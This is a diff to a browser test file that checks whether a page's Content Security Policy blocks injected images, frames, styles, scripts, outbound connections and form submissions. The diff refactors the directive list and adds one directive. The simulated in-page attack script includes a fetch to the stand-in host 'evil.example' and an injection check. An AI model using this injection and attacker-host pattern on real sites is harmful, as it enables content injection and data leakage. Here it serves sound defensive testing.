@@ -35,6 +35,8 @@ test('what a model or a file says neither runs nor leaks', needsBrowser, async (
   t.equal(await page.locator('.talk').locator('img, iframe, script, style, svg a').count(), 0)
 })
 
+const directives = ['img-src', 'frame-src', 'style-src-attr', 'script-src-attr', 'script-src-elem', 'connect-src', 'form-action']
+
 /** Runs in the page, as somebody would who got in. */
 const attack = `(async () => {
   const seen = []
@@ -48,7 +50,7 @@ const attack = `(async () => {
   host.querySelector('b').click()
   host.querySelector('button').click()
   await fetch('https://evil.example/').catch(() => {})
-  for (let i = 0; i < 60 && new Set(seen).size < 6; i++) await new Promise((resolve) => setTimeout(resolve, 50))
+  for (let i = 0; i < 100 && ${JSON.stringify(directives)}.some((directive) => !seen.includes(directive)); i++) await new Promise((resolve) => setTimeout(resolve, 50))
   return { seen, pwned: 'pwned' in window }
 })()`
 
@@ -56,6 +58,6 @@ test('the policy stops what would get in all the same: scripts, styles, images, 
   const { page, left } = await openConsole(t, { session: 'Policy' })
   const { seen, pwned } = await page.evaluate<{ seen: string[], pwned: boolean }>(attack)
   t.equal(pwned, false)
-  for (const directive of ['img-src', 'frame-src', 'style-src-attr', 'script-src-elem', 'connect-src', 'form-action']) t.ok(seen.includes(directive), directive)
+  for (const directive of directives) t.ok(seen.includes(directive), directive)
   t.strictSame(left, [])
 })
